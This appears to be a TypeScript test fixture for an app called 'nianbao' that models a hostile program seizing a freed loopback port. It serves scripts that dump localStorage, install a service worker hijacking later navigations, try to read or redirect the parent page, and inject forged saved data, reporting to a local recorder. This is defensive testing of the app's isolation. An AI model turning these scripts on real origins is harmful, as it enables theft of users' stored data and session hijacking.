import { createServer, type Server } from 'node:http'
import { listen } from '../../services/loopback/listen.ts'

/** Another user's program, which harms nothing and notes all it gets to see. */
export interface Stranger {
  /** Takes the port of a program that has ended, and answers everything there with a page that leaves a worker. */
  readonly take: (port: number) => Promise<void>
  /** Gives the port back; what it left in the browser stays. */
  readonly leave: () => Promise<void>
  /** What was asked of it at that port. */
  readonly asked: readonly string[]
  /** What its page, its worker and the frame that this answers have seen. */
  readonly seen: readonly Seen[]
  readonly close: () => Promise<void>
}

export interface Seen {
  readonly by: 'page' | 'worker' | 'frame'
  readonly what: string
  readonly data: unknown
}

export async function stranger(): Promise<Stranger> {
  const asked: string[] = []
  const seen: Seen[] = []
  const recorder = createServer((request, response) => {
    let body = ''
    request.setEncoding('utf8').on('data', (part: string) => (body += part))
    request.on('end', () => {
      seen.push(JSON.parse(body) as Seen)
      response.writeHead(204).end()
    })
  })
  const tellUrl = `http://127.0.0.1:${await listen(recorder, 0)}/`
  const thief = createServer(({ url = '' }, response) => {
    asked.push(url)
    const isWorker = url === '/worker.js'
    response.setHeader('content-type', isWorker ? 'text/javascript' : 'text/html')
    response.end(isWorker ? workerScript(tellUrl) : `<script>${pageScript(tellUrl)}</script>`)
  })
  return {
    asked,
    seen,
    take: async (port) => void (await listen(thief, port)),
    leave: () => closed(thief),
    close: async () => {
      await closed(thief)
      await closed(recorder)
    },
  }
}

function closed(server: Server): Promise<void> {
  server.closeAllConnections()
  return new Promise((done) => void server.close(() => done()))
}

function teller(by: Seen['by'], url: string): string {
  return `const tell = (what, data) => fetch('${url}', { method: 'POST', mode: 'no-cors', keepalive: true, body: JSON.stringify({ by: '${by}', what, data }) })\n`
}

function pageScript(tellUrl: string): string {
  return `${teller('page', tellUrl)}
tell('storage', { ...localStorage })
navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready).then(() => tell('ready'))
`
}

/** It stands before whatever is at its address from then on. */
function workerScript(tellUrl: string): string {
  const frame = `<script>${frameScript(tellUrl)}</script>`
  return `${teller('worker', tellUrl)}
addEventListener('install', () => skipWaiting())
addEventListener('activate', (event) => event.waitUntil(clients.claim()))
addEventListener('message', ({ data }) => tell('message', data))
addEventListener('fetch', (event) => {
  const { url, mode, method, referrer, headers } = event.request
  tell('fetch', { url, mode, method, referrer, headers: [...headers] })
  if (mode === 'navigate') event.respondWith(new Response(${JSON.stringify(frame)}, { headers: { 'content-type': 'text/html' } }))
})
`
}

/** In the place of what hands over: it gives what it finds and what it makes up, and tries for more. */
function frameScript(tellUrl: string): string {
  return `${teller('frame', tellUrl)}
const attempt = (what, act) => { try { tell(what, act()) } catch (error) { tell(what, 'refused: ' + error.name) } }
tell('place', { url: location.href, referrer: document.referrer, around: [...location.ancestorOrigins] })
new BroadcastChannel('nianbao').onmessage = ({ data }) => tell('broadcast', data)
attempt('address of the page', () => parent.location.href)
attempt('words of the page', () => parent.document.body.textContent)
attempt('leading the page away', () => { top.location = location.origin; return 'led' })
addEventListener('message', ({ data, origin, ports }) => {
  tell('message', { data, origin })
  const [port] = ports
  if (!port) return
  // Once it is told: the page takes the frame away after that, and with it what is on its way.
  port.onmessage = ({ data }) => tell('taken', data).finally(() => port.postMessage('done'))
  const kept = Object.entries(localStorage)
  const forged = ['nianbao.unsaved.x', JSON.stringify({ session: crypto.randomUUID(), id: 'x', at: '2026-01-12T09:00:00.000Z', texts: [{ field: 'other', value: 'forged' }] })]
  port.postMessage([...kept, forged, ['nianbao.unsaved.y', btoa('forged'.repeat(20))]])
})
`
}
